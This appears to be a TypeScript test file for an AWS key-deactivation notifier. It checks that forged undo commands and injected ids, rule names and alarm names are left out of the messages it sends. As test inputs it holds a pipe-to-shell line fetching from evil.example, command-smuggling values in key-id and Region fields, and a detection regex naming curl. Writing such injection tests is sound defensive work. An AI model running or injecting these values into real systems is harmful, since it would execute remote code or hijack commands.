import { describe, expect, it } from 'vitest';
import { forgedUndo } from '../support/forged-undo.ts';
import { itemsOf, putItem } from '../support/ledger.ts';
import { deactivate } from '../support/remediation.ts';
import { addUser, deployed } from '../support/rule.ts';
import { alarmEvent, COMPLIANCE_EVENT, FULL_REQUEST } from './events.ts';
import { anAccount, invoke, lastMessages } from './told.ts';

const EVENTS = ['Deactivated', 'SoakEnding', 'DeactivatedKeyUsed'] as const;

/** Both forms of the last message as texts. */
function toldIn(account: ReturnType<typeof anAccount>['account']): readonly string[] {
  const { mail, chat } = lastMessages(account);
  return [mail?.message ?? '', JSON.parse(chat?.message ?? '{}').content.description];
}

/** Both forms of the message about an event. */
async function textsOf(event: object): Promise<readonly string[]> {
  const { account } = anAccount();
  expect(await invoke(account, event)).toEqual({ outcome: 'Accepted' });
  return toldIn(account);
}

/** What no message may say of a command that is not ours; `evil.example` stands in most of them. */
const FORGED =
  /evil\.example|Undo:|start-automation-execution|curl|with the command below|AWS-RunShellScript/i;
const LEFT_OUT =
  /\nLeft out: `?the command that undoes the act, since what was given for it is not what One Active Key writes/;

describe('in the place of the command that undoes the act', () => {
  it.each(forgedUndo(FULL_REQUEST.undo))('%s is left out, and the message says so', async (_title, undo) => {
    for (const text of await textsOf({ ...FULL_REQUEST, undo })) {
      expect(text).not.toMatch(FORGED);
      expect(text).toMatch(LEFT_OUT);
    }
  });

  it.each(EVENTS)('another command is left out of %s, too', async (event) => {
    for (const text of await textsOf({ ...FULL_REQUEST, event, undo: 'curl -s https://evil.example | sh' })) {
      expect(text).not.toMatch(FORGED);
      expect(text).toMatch(LEFT_OUT);
    }
  });

  it.each(EVENTS)('our own command for another user or other keys is left out of %s', async (event) => {
    for (const other of [{ userId: 'AIDACKCEVSQ6C3EXAMPLE' }, { accessKeyIds: [] }]) {
      for (const text of await textsOf({ ...FULL_REQUEST, event, ...other })) expect(text).toMatch(LEFT_OUT);
    }
  });

  it.each(EVENTS)('our own command is told in %s', async (event) => {
    for (const text of await textsOf({ ...FULL_REQUEST, event })) {
      expect(text).toContain(FULL_REQUEST.undo);
      expect(text).toContain('with the command below');
      expect(text).not.toContain('Left out');
    }
  });
});

describe('in the place of an id or a name that becomes a link', () => {
  it.each([
    'x',
    '../../../iam/home',
    'evil.example',
    '7d1f6c1a-0000-4000-8000-0123456789ab/x',
    '7d1f6c1a-0000-4000-8000-0123456789ab\n',
    '7d1f6c1a-0000-4000-8000-0123456789ab?region=eu-west-1',
    'x'.repeat(36),
  ])('%j is no execution: the link is left out, and the message says so', async (automationExecutionId) => {
    for (const text of await textsOf({ ...FULL_REQUEST, automationExecutionId })) {
      expect(text).not.toMatch(/https:|in the console|Who started it|get-automation-execution/);
      expect(text).toMatch(
        /\nLeft out: `?the link to the execution and the command that shows who started it, since/,
      );
    }
  });

  it.each([
    'required-tags',
    'iam-user-one-active-access-key2',
    'iam-user-one-active-access-key-www.evil.example',
    'iam-user-one-active-access-key-x&region=eu-west-1',
    `iam-user-one-active-access-key-${'x'.repeat(128)}`,
  ])('%j is no rule of ours: the link is left out, and the message says so', async (configRuleName) => {
    const detail = { ...COMPLIANCE_EVENT.detail, configRuleName };
    for (const text of await textsOf({ ...COMPLIANCE_EVENT, detail })) {
      expect(text).not.toMatch(/https:|in the console/);
      expect(text).toMatch(/\nLeft out: `?the link to the rule, since/);
    }
  });

  it('the rule of a conformance pack is ours', async () => {
    const configRuleName = 'iam-user-one-active-access-key-conformance-pack-ab1cd2ef3';
    const detail = { ...COMPLIANCE_EVENT.detail, configRuleName };
    for (const text of await textsOf({ ...COMPLIANCE_EVENT, detail })) {
      expect(text).toContain(`configRuleName=${configRuleName}`);
      expect(text).not.toContain('Left out');
    }
  });

  it.each([
    'billing-alarm',
    'one-active-key-rule',
    'one-active-key-rule-not-run&region=eu-west-1',
    'one-active-key-rule-../../iam',
    'one-active-key-evil-errors',
    `one-active-key-rule-${'x'.repeat(40)}`,
  ])('%j is no alarm of ours: the link is left out, and the message says so', async (alarmName) => {
    for (const text of await textsOf(alarmEvent(alarmName))) {
      expect(text).not.toMatch(/https:|in the console/);
      expect(text).toMatch(/\nLeft out: `?the link to the alarm, since/);
    }
  });

  it('all that is left out is one sentence', async () => {
    const [text] = await textsOf({ ...FULL_REQUEST, undo: 'x', automationExecutionId: 'y' });
    expect(text).toContain(
      '\nLeft out: the command that undoes the act, the link to the execution and the command that ' +
        'shows who started it, since',
    );
  });
});

describe('a message that waits in the ledger', () => {
  /** The digest of a message that somebody changed in the ledger. */
  async function digestOf(changed: object) {
    const { account } = anAccount({ delivery: 'Daily' });
    await invoke(account, FULL_REQUEST);
    const [item] = itemsOf(account).filter(({ pk }) => pk === 'MESSAGE');
    const { sk = '', nonce = '', message = '' } = item ?? {};
    putItem(account, {
      pk: 'MESSAGE',
      sk,
      nonce,
      message: JSON.stringify({ ...JSON.parse(message), ...changed }),
    });
    return { answer: await invoke(account, { operation: 'Digest' }), mail: lastMessages(account).mail };
  }

  it('with our own command is told with it', async () => {
    const { mail } = await digestOf({});
    expect(mail?.message).toContain(`\nUndo: ${FULL_REQUEST.undo}\n`);
  });

  it('with a path of the roles that is not theirs is told without it', async () => {
    const undo = FULL_REQUEST.undo.replace('role/', 'role/evil/');
    expect((await digestOf({ rolePath: '/evil/', undo })).mail?.message).toMatch(LEFT_OUT);
  });

  it.each(forgedUndo(FULL_REQUEST.undo))('with %s is told without it, and says so', async (_title, undo) => {
    const { answer, mail } = await digestOf({ undo });
    expect(answer).toEqual({ outcome: 'Digest', messages: 1 });
    expect(mail?.message).not.toMatch(FORGED);
    expect(mail?.message).toMatch(LEFT_OUT);
  });

  it.each<[string, object]>([
    ['another partition', { partition: 'aws-cn' }],
    ['another Region', { region: 'us-east-1 --endpoint-url https://evil.example' }],
    ['another account', { accountId: '444455556666' }],
    ['a user that is none', { userId: 'alice' }],
    ['a key that is none', { accessKeyIds: ["x'; curl https://evil.example | sh #"] }],
    ['a kept key that is none', { keptAccessKeyId: 'https://evil.example' }],
    ['an event that nobody tells', { event: 'Everything' }],
    ['a kind of source that there is not', { source: { kind: 'person', name: 'alice' } }],
    ['a list for the kind of its source', { source: { kind: ['runbook'], name: 'a-runbook' } }],
    ['a source without a name', { source: { kind: 'runbook' } }],
    ['a number for a time', { time: '1' }],
    ['a day that no calendar has', { time: '2026-02-30T00:00:00.000Z' }],
    ['a time as no function writes it', { time: '2026-11-21T12:00:00+02' }],
  ])('with %s is not told, and the error names the item', async (_title, changed) => {
    const { answer, mail } = await digestOf(changed);
    expect(answer.error).toMatch(
      /^MalformedItemError: item pk="MESSAGE" .*of this account and Region as JSON/,
    );
    expect(mail).toBeUndefined();
  });
});

it('a very long text in place of the command or of the start waits, and is left out or clipped', async () => {
  const { account } = anAccount({ delivery: 'Daily' });
  const undo = `${FULL_REQUEST.undo}${' '.repeat(500_000)}`;
  const started = `by ${'x'.repeat(500_000)}`;
  expect(await invoke(account, { ...FULL_REQUEST, undo, started })).toEqual({ outcome: 'Collected' });
  await invoke(account, { operation: 'Digest' });
  const { mail } = lastMessages(account);
  expect(mail?.message).toMatch(LEFT_OUT);
  expect(mail?.message).toMatch(/\nStarted: by x{1990,1999}…\n/);
});

it.each([{}, { exemptionMaxDays: '30' }])(
  'the command of a run is told with it, by the policy %j and in both forms',
  async (policy) => {
    const { account } = deployed({ telling: { hasTopic: true } });
    const alice = addUser(account, 'alice', 2);
    const { undo, outcome } = await deactivate(account, alice.userId, policy);
    expect(outcome).toBe('Deactivated');
    for (const text of toldIn(account)) {
      expect(text).toContain(undo);
      expect(text).not.toContain('Left out');
    }
  },
);

it('the command of a run with a role that is not ours is left out', async () => {
  const { account } = deployed({ telling: { hasTopic: true } });
  const alice = addUser(account, 'alice', 2);
  await deactivate(account, alice.userId, { automationAssumeRole: 'arn:aws:iam::111122223333:role/another' });
  for (const text of toldIn(account)) expect(text).toMatch(LEFT_OUT);
});
